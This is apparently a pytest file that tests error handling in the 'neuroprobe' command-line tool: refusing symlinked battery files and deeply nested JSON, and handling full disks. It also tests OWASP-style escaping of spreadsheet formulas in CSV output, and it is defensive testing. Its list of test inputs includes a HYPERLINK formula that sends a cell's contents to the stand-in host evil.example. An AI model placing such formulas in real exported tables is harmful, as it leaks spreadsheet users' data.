"""Clean errors everywhere (issue 24, items 5 and 6), through real ``neuroprobe`` processes.

- ``neuroprobe lesion --mode scale --factor nan|inf|-inf``: one sentence before the model loads;
  a finite factor that overflows the activations: one sentence, not a traceback;
- battery files (``stimuli.csv``, ``battery.json``) that are links out of the battery folder are
  refused like images are; a battery folder that is itself a link is fine;
- a deeply nested ``battery.json`` (and a cells table's sidecar): one sentence, no ``RecursionError``;
- a full disk during ``cells``, ``figures``, ``atlas`` and ``export``: one sentence ("the disk is
  full ..."), exit 2, no segfault, and nothing half-written left (a small tmpfs mounted in the test:
  needs root on Linux, skipped elsewhere with the reason);
- CSV tables escape text cells that a spreadsheet would run as a formula (OWASP: a leading
  ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a ``'``), and reading them back gives
  the original names (``neuroprobe lesion --cells ... --concept =mother`` still works).
"""
from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from neuroprobe.analysis.criterion import load_cells, save_cells
from neuroprobe.analysis.synthetic import make_stimuli, write_recording
from neuroprobe.errors import BatteryError, NeuroprobeError
from neuroprobe.output import FORMULA_START, escape_cell, read_csv, unescape_cell, write_csv
from neuroprobe.stimuli.battery import Battery

ROOT = Path(__file__).resolve().parents[1]
ENV = dict(os.environ, HF_HUB_OFFLINE="1", TRANSFORMERS_OFFLINE="1", MPLBACKEND="Agg", OMP_NUM_THREADS="1",
           OPENBLAS_NUM_THREADS="1", PYTHONPATH=str(ROOT))


def run(*args: str, cwd: Path | None = None, patch: str = "") -> subprocess.CompletedProcess:
    """``neuroprobe ARGS`` in a fresh process (``patch``: Python run first, e.g. to fake a wrong estimate)."""
    code = f"import sys\n{patch}\nfrom neuroprobe.cli import main\nsys.argv = ['neuroprobe'] + sys.argv[1:]\nmain()\n"
    return subprocess.run([sys.executable, "-c", code, *args], capture_output=True, text=True, env=ENV, cwd=cwd,
                          timeout=600)


def one_line(res: subprocess.CompletedProcess) -> str:
    """Exit 2 and exactly one ``neuroprobe: error:`` line on stderr (no traceback, no segfault); return it."""
    lines = [line for line in res.stderr.strip().splitlines() if line.strip()]
    assert res.returncode == 2, (res.returncode, res.stderr[-3000:])
    assert len(lines) == 1 and lines[0].startswith("neuroprobe: error: "), res.stderr[-3000:]
    return lines[0]


def kinship(folder: Path, rename: dict[str, str] | None = None) -> Path:
    """A small battery folder: three kinship concepts from the shipped battery (optionally renamed)."""
    rename = rename or {}
    full = Battery.load("kinship")
    keep = ["mother", "father", "dog"]
    folder.mkdir(parents=True)
    table = full.table[full.table["concept"].isin(keep)].copy()
    table["concept"] = table["concept"].replace(rename)
    table.to_csv(folder / "stimuli.csv", index=False)  # written raw, as a user would
    concepts = {rename.get(c, c): full.concepts[c] for c in keep}
    (folder / "battery.json").write_text(json.dumps({"name": folder.name, "concepts": concepts}), encoding="utf-8")
    return folder


# ------------------------------------------------------------------ lesion --factor


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "NaN"])
def test_scale_factor_that_is_not_finite_is_one_sentence_before_the_model_loads(value, tmp_path):
    battery = kinship(tmp_path / "tiny")
    res = run("lesion", "--model", "minilm", "--device", "cpu", "--concept", "mother", "--probe", str(battery),
              "--mode", "scale", f"--factor={value}", "--k", "1", "--random-draws", "2", "--quiet",
              "--out", str(tmp_path / "out"), cwd=tmp_path)
    line = one_line(res)
    assert "--factor" in line and "finite" in line, line
    assert not (tmp_path / "out").exists()


def test_scale_factor_meaning_negative_inverts_and_overflow_is_one_sentence(tmp_path):
    """Negative factors are allowed (x -> -|f| x inverts a unit); a factor that overflows float32 is refused
    when the readout stops being a number."""
    import torch

    from neuroprobe.lesions.forgetting import LesionStudy
    from neuroprobe.lesions.lesion import scale_factor
    from neuroprobe.planted import make_planted

    torch.set_num_threads(1)
    assert scale_factor(-1) == -1.0 and scale_factor("0.5") == 0.5
    for bad in (float("nan"), float("inf"), None, "x"):
        with pytest.raises(NeuroprobeError):
            scale_factor(bad)
    p = make_planted(tmp_path / "b", seed=0, n_concepts=3, per_form=2)
    study = LesionStudy(p.subject, p.battery, None, sites="hidden", quiet=True)
    units = {"hidden": np.array([0, 3, 6])}
    inverted = study.evaluate_many([units], "scale", factor=-1.0)[0]
    assert np.isfinite(inverted.to_numpy()).all()
    with pytest.raises(NeuroprobeError, match="overflows"):
        study.evaluate_many([units], "scale", factor=1e39)
    with pytest.raises(NeuroprobeError, match="finite"):
        study.evaluate_many([units], "scale", factor=float("nan"))


# ------------------------------------------------------------------ battery files


def test_battery_files_linked_out_of_the_folder_are_refused(tmp_path):
    elsewhere = kinship(tmp_path / "elsewhere")
    for name in ("stimuli.csv", "battery.json"):
        folder = kinship(tmp_path / f"linked-{name}")
        (folder / name).unlink()
        (folder / name).symlink_to(elsewhere / name)
        with pytest.raises(BatteryError, match=f"{name}: is a link to a file outside the battery folder"):
            Battery.load(folder)
    # through the command, before the model loads (the subject name is refused only after the battery)
    res = run("record", "--model", "no-such-subject", "--probe", str(folder), "--out", str(tmp_path / "r.h5"))
    line = one_line(res)
    assert "battery.json" in line and "outside the battery folder" in line, line
    assert not (tmp_path / "r.h5").exists()


def test_battery_links_that_stay_inside_are_fine(tmp_path):
    # a battery folder that is itself a link (as under probes/), and a file linked to another inside the folder
    real = kinship(tmp_path / "real")
    (real / "tables").mkdir()
    shutil.move(real / "stimuli.csv", real / "tables" / "stimuli.csv")
    (real / "stimuli.csv").symlink_to(real / "tables" / "stimuli.csv")
    link = tmp_path / "probes" / "linked"
    link.parent.mkdir()
    link.symlink_to(real, target_is_directory=True)
    assert len(Battery.load(link)) == len(Battery.load(real)) > 0


def test_deeply_nested_battery_json_is_one_sentence(tmp_path):
    for depth in (100_000, 200):  # RecursionError in the parser; parsed but deeper than any battery needs
        folder = kinship(tmp_path / f"deep{depth}")
        meta = json.loads((folder / "battery.json").read_text())
        text = json.dumps(meta)[:-1] + ', "extra": ' + "[" * depth + "]" * depth + "}"
        (folder / "battery.json").write_text(text, encoding="utf-8")
        with pytest.raises(BatteryError, match="nested too deeply"):
            Battery.load(folder)
        if depth > 1000:  # through the command too
            line = one_line(run("record", "--model", "no-such-subject", "--probe", str(folder), "--out",
                                str(tmp_path / "r.h5")))
            assert "battery.json" in line and "nested too deeply" in line, line


def test_deeply_nested_cells_sidecar_is_ignored_not_a_traceback(tmp_path):
    battery = kinship(tmp_path / "tiny")
    cells = tmp_path / "cells.csv"
    pd.DataFrame({"site": ["encoder.layer.1.mlp"], "unit": [1], "concept": ["mother"], "dprime": [1.0]}).to_csv(
        cells, index=False)
    Path(str(cells) + ".json").write_text("[" * 100_000 + "]" * 100_000)
    line = one_line(run("lesion", "--model", "minilm", "--cells", str(cells), "--concept", "unicorn", "--probe",
                        str(battery), "--quiet", cwd=tmp_path))
    assert "unicorn" in line, line


# ------------------------------------------------------------------ CSV escaping


TRICKY = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+SUM(1,2)", "-2+3", "@cmd", "\tTAB", "\rCR",
          "'=quoted", "''", "'plain", "plain"]


def test_escape_round_trip_and_owasp_rule():
    for s in TRICKY + ["", "'", "=", "-", "a=b", "'-", "''="]:
        e = escape_cell(s)
        assert unescape_cell(e) == s, s
        assert not (e[:1] in FORMULA_START), (s, e)
        if s[:1] in FORMULA_START:
            assert e == "'" + s
    assert escape_cell(-0.5) == -0.5 and escape_cell(None) is None


def _formula_fields(path: Path, sep: str = ",") -> list[str]:
    """Fields of a CSV file that a spreadsheet would run as a formula (numbers such as -0.5 are fine)."""
    bad = []
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.reader(fh, delimiter=sep):
            for field in row:
                if field[:1] in FORMULA_START:
                    try:
                        float(field)
                    except ValueError:
                        bad.append(field)
    return bad


def test_cells_tables_escape_formulas_and_read_back_the_names(tmp_path):
    stim = make_stimuli(len(TRICKY), 8)
    stim["concept"] = stim["concept"].map({f"c{i}": name for i, name in enumerate(TRICKY)})
    rng = np.random.default_rng(0)
    resp = rng.standard_normal((len(stim), 12))
    for i in range(len(TRICKY)):  # unit i answers to concept i, so every concept name appears in the table
        resp[stim["concept"].to_numpy() == TRICKY[i], i] += 50.0
    rec = write_recording(tmp_path / "rec.h5", stim, {"s0": resp}, batch_size=16)
    for out in (tmp_path / "cells.csv", tmp_path / "cells.tsv"):
        res = run("cells", str(rec), "--out", str(out), "--n-perm", "20", "--controls", "rotation", "-q")
        assert res.returncode == 0, res.stderr
        raw = out.read_text(encoding="utf-8")
        assert "'=HYPERLINK" in raw and "'+SUM" in raw and "'@cmd" in raw and "'-2+3" in raw, raw[:500]
        for written in (out, out.with_name(f"cells.rotation{out.suffix}")):
            assert _formula_fields(written, "\t" if out.suffix == ".tsv" else ",") == []
        back = load_cells(out)
        assert set(TRICKY) <= set(back["concept"]), sorted(set(back["concept"]))
        assert any(c.startswith("mean:=HYPERLINK") for c in back.columns)


def test_lesion_tables_escape_formulas_and_cells_round_trip(tmp_path):
    """A cells table written by `neuroprobe cells` (save_cells) with a concept '=mother' drives
    `neuroprobe lesion --concept =mother`; every CSV the lesion writes is formula-safe."""
    battery = kinship(tmp_path / "kin", rename={"mother": "=mother", "father": "+father"})
    cells = pd.DataFrame({"site": ["encoder.layer.3.mlp", "encoder.layer.3.mlp", "encoder.layer.5.mlp"],
                          "unit": [11, 700, 42], "concept": ["=mother", "=mother", "+father"],
                          "dprime": [2.0, 3.0, 1.0]})
    cells.attrs["battery"] = str(battery)
    save_cells(cells, tmp_path / "cells.csv")
    assert "'=mother" in (tmp_path / "cells.csv").read_text()
    res = run("lesion", "--model", "minilm", "--device", "cpu", "--cells", "cells.csv", "--concept", "=mother",
              "--k", "1", "--mode", "zero", "--random-draws", "2", "--keep-draws", "0", "--matrix-k", "1",
              "--out", "out", "--quiet", cwd=tmp_path)
    assert res.returncode == 0, res.stderr
    out = tmp_path / "out"
    for name in ("forgetting.csv", "dose_response.csv", "forgetting_matrix_zero.csv"):
        assert _formula_fields(out / name) == [], name
    table = read_csv(out / "forgetting.csv")
    assert table["concept"].tolist() == ["=mother"]
    assert table["units"].tolist() == ["encoder.layer.3.mlp:700"]
    matrix = read_csv(out / "forgetting_matrix_zero.csv", index_col=0)
    assert "=mother" in matrix.columns and "'=mother" in (out / "forgetting_matrix_zero.csv").read_text()


def test_write_csv_never_leaves_a_partial_file(tmp_path):
    class Boom(Exception):
        pass

    frame = pd.DataFrame({"a": ["=x", "y"], "b": [-1.5, 2.0]})
    target = tmp_path / "t.csv"
    target.write_text("old")
    original = pd.DataFrame.to_csv

    def failing(self, path, *a, **k):
        Path(path).write_text("half")
        raise Boom()

    pd.DataFrame.to_csv = failing
    try:
        with pytest.raises(Boom):
            write_csv(frame, target)
    finally:
        pd.DataFrame.to_csv = original
    assert target.read_text() == "old" and sorted(p.name for p in tmp_path.iterdir()) == ["t.csv"]
    write_csv(frame, target)
    back = read_csv(target)
    assert back["a"].tolist() == ["=x", "y"] and back["b"].tolist() == [-1.5, 2.0]


# ------------------------------------------------------------------ full disk


def _can_mount() -> bool:
    return sys.platform.startswith("linux") and os.geteuid() == 0 and shutil.which("mount") is not None


@pytest.fixture()
def small_disk(tmp_path):
    """A tmpfs of 8 MiB mounted in the test (root on Linux; skipped elsewhere, with the reason)."""
    if not _can_mount():
        pytest.skip("the full-disk tests mount a small tmpfs: need root on Linux (CI runs as root)")
    mnt = tmp_path / "disk"
    mnt.mkdir()
    res = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8m", "tmpfs", str(mnt)], capture_output=True, text=True)
    if res.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here ({res.stderr.strip()})")
    yield mnt
    subprocess.run(["umount", "-l", str(mnt)], check=False)


def fill(disk: Path, leave: int) -> None:
    """Fill ``disk`` up to ``leave`` free bytes with a file named ``filler``."""
    st = os.statvfs(disk)
    (disk / "filler").write_bytes(bytes(max(0, st.f_bavail * st.f_frsize - leave)))


def files(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()
            and p.name != "filler"}


@pytest.fixture(scope="module")
def analysed(tmp_path_factory):
    """A synthetic recording with a few planted cells and its cells tables (written off the small disk)."""
    root = tmp_path_factory.mktemp("analysed")
    stim = make_stimuli(4, 16)
    rng = np.random.default_rng(1)
    resp = rng.standard_normal((len(stim), 300))
    for c in range(4):
        resp[stim["concept"].to_numpy() == f"c{c}", c] += 40.0
    rec = write_recording(root / "rec.h5", stim, {"s0": resp, "s1": rng.standard_normal((len(stim), 300))},
                          batch_size=16)
    res = run("cells", str(rec), "--out", str(root / "cells.csv"), "--n-perm", "20", "-q")
    assert res.returncode == 0, res.stderr
    return rec, root / "cells.csv"


def test_full_disk_during_cells(analysed, small_disk):
    rec, _ = analysed
    (small_disk / "cells.csv").write_text("a table from an earlier run")
    before = files(small_disk)
    fill(small_disk, 64 * 1024)
    line = one_line(run("cells", str(rec), "--out", str(small_disk / "cells.csv"), "--n-perm", "20", "-q"))
    assert "the disk is full" in line, line
    assert files(small_disk) == before  # the earlier table as it was, no partial table, no temporary file


def test_full_disk_during_figures(analysed, small_disk, tmp_path):
    rec, cells = analysed
    res = run("figures", str(rec), "--cells", str(cells), "--out", str(tmp_path / "figs"), "--top", "1", "-q")
    assert res.returncode == 0, res.stderr
    sizes = sorted(p.stat().st_size for p in (tmp_path / "figs").iterdir())
    assert len(sizes) >= 3
    (small_disk / "figs").mkdir()
    fill(small_disk, sum(sizes) - sizes[0] // 2)  # room for all figures but part of one
    line = one_line(run("figures", str(rec), "--cells", str(cells), "--out", str(small_disk / "figs"), "--top", "1",
                        "-q"))
    assert "the disk is full" in line, line
    assert files(small_disk) == {}  # not some of the figures: none


def test_full_disk_during_atlas(analysed, small_disk, tmp_path):
    rec, cells = analysed
    res = run("atlas", str(rec), "--cells", str(cells), "--out", str(tmp_path / "atlas"), "-q")
    assert res.returncode == 0, res.stderr
    total = sum(p.stat().st_size for p in (tmp_path / "atlas").rglob("*") if p.is_file())
    # an earlier atlas in the folder stays whole
    shutil.copytree(tmp_path / "atlas", small_disk / "atlas")
    before = files(small_disk)
    fill(small_disk, total // 2)
    line = one_line(run("atlas", str(rec), "--cells", str(cells), "--out", str(small_disk / "atlas"), "-q"))
    assert "the disk is full" in line, line
    assert files(small_disk) == before
    assert not [p for p in (small_disk / "atlas").iterdir() if p.name.startswith(".")]
    # and a new atlas folder on a full disk is not left behind at all
    line = one_line(run("atlas", str(rec), "--cells", str(cells), "--out", str(small_disk / "new"), "-q"))
    assert "the disk is full" in line and not (small_disk / "new").exists()


@pytest.fixture(scope="module")
def big_recording(tmp_path_factory):
    """12.8 MB of responses: more than the 8 MiB disk holds."""
    root = tmp_path_factory.mktemp("big")
    stim = make_stimuli(4, 50)
    rng = np.random.default_rng(0)
    return write_recording(root / "big.h5", stim,
                           {f"s{i}": rng.standard_normal((len(stim), 4000)).astype("float32") for i in range(4)},
                           batch_size=20)


@pytest.mark.parametrize("how", ["refused before writing", "disk fills half-way"])
def test_full_disk_during_export_is_one_sentence_not_a_segfault(how, big_recording, small_disk):
    pytest.importorskip("pynwb", reason="pynwb is not installed (pip install 'neuroprobe-cells[nwb]')")
    # "half-way": the size estimate is made too small, as if another process took the space meanwhile
    patch = "import neuroprobe.export.nwb as n\nn.estimate_bytes = lambda *a, **k: 1 << 20" \
        if how == "disk fills half-way" else ""
    res = run("export", str(big_recording), "--to", "nwb", "--out", str(small_disk / "big.nwb"), "--no-inspect",
              patch=patch)
    line = one_line(res)
    assert "the disk is full" in line, line
    assert files(small_disk) == {} and list(small_disk.iterdir()) == []
